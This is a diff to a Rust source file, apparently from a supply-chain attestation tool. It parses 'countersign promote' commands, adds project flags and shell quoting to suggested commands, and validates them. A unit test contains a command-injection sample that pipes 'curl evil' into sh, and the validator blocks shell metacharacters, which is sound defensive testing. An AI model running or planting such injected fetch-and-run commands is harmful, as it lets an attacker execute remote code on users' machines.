@@ -8,7 +8,8 @@ use std::borrow::Cow;
 
 use crate::domain::digest::Digest;
 use crate::domain::facts::is_signature;
-use crate::domain::names::EnvironmentName;
+use crate::domain::names::{EnvironmentName, ProjectName};
+use crate::domain::shell;
 use crate::domain::statement::predicate_type::TEST_RESULT_V0_1;
 
 /// How each command of this program begins.
@@ -111,11 +112,51 @@ pub fn promotes(command: &str) -> bool {
 
 /// The subject and environment of a command that asks for a promotion.
 fn promotion(command: &str) -> Option<(&str, &str)> {
-    let words: Vec<&str> = command.split_whitespace().collect();
-    match words.as_slice() {
-        ["countersign", "promote", subject, "--to", environment] => Some((subject, environment)),
-        _ => None,
+    let (subject, environment) = command.trim_end().strip_prefix("countersign promote ")?.rsplit_once(" --to ")?;
+    let subject = match subject.strip_prefix("--project ") {
+        Some(rest) => rest.split_once(' ')?.1,
+        None => subject,
+    };
+    // In quotes a place may have blanks in it; anything else that has is more than one subject.
+    let one = subject.starts_with('\'') || !subject.contains(char::is_whitespace);
+    (one && !environment.contains(char::is_whitespace)).then_some((subject, environment))
+}
+
+/// The commands whose answer is one project's.
+const ASKS_A_PROJECT: [&str; 4] =
+    ["countersign promote ", "countersign check ", "countersign override request ", "countersign evidence add "];
+
+/// `text` with every command in it asking `project`, where that is not the one that is asked anyway.
+#[must_use]
+pub fn in_project(text: &str, project: &ProjectName) -> String {
+    if *project == ProjectName::default() {
+        return text.to_owned();
     }
+    ASKS_A_PROJECT.iter().fold(text.to_owned(), |text, command| {
+        let named = format!("{command}--project ");
+        // What names one already is left as it is.
+        let text = text.replace(&named, command).replace(command, &format!("{named}{project} "));
+        text.replace(&format!("{named}{project} {project} "), &format!("{named}{project} "))
+    })
+}
+
+/// `text` with what lies at `name` named as a shell needs it.
+#[must_use]
+pub fn quoting(text: &str, name: &str) -> String {
+    let quoted = shell::argument(name);
+    if name.is_empty() || quoted == name {
+        return text.to_owned();
+    }
+    // What is quoted already holds the bare name within.
+    let (bare, whole) = (format!(" {name}@sha256:"), format!(" {quoted}@sha256:"));
+    text.replace(&bare, &whole)
+}
+
+/// Whether a command could do anything else in a shell than be run: of a text by nobody knows whom, only such are shown.
+#[must_use]
+pub fn is_one_command(text: &str) -> bool {
+    let fix = Fix::parse(text);
+    fix.command.is_none_or(|command| !command.contains([';', '|', '&', '`', '$', '<', '>', '(', ')', '\\', '\n', '\r']))
 }
 
 fn without_conjunction(sentence: &str) -> &str {
@@ -150,6 +191,31 @@ pub fn makes(command: &str, predicate_type: &str) -> bool {
 mod tests {
     use super::*;
     use proptest::prelude::*;
+
+    #[test]
+    fn a_command_names_its_project_once_and_its_place_in_quotes() {
+        let other: ProjectName = "other".parse().unwrap();
+        let fix = "wait: countersign promote x@sha256:a --to y; or give it: countersign evidence add M";
+        let named = in_project(fix, &other);
+        let expected = "wait: countersign promote --project other x@sha256:a --to y; or give it: countersign evidence add \
+                        --project other M";
+        assert_eq!(named, expected);
+        assert_eq!(in_project(&named, &other), named);
+        assert_eq!(in_project(fix, &ProjectName::default()), fix);
+        let quoted = quoting("countersign promote oci:a b;c@sha256:d --to y", "oci:a b;c");
+        assert_eq!(quoted, "countersign promote 'oci:a b;c'@sha256:d --to y");
+        assert_eq!(quoting(&quoted, "oci:a b;c"), quoted);
+        assert!(promotes(&quoted) && promotes(&in_project(&quoted, &other)));
+        assert!(!promotes("countersign promote a b --to y"));
+    }
+
+    #[test]
+    fn what_does_more_than_one_command_is_not_taken_for_one() {
+        assert!(is_one_command("countersign promote a --to b; or give it: countersign evidence add M"));
+        for text in ["countersign check a; curl evil | sh #", "countersign check $(x)", "countersign check a && b"] {
+            assert!(!is_one_command(text), "{text}");
+        }
+    }
 
     fn parts(text: &str) -> (&str, Option<String>, Vec<&str>) {
         let Fix { first, command, beside } = Fix::parse(text);
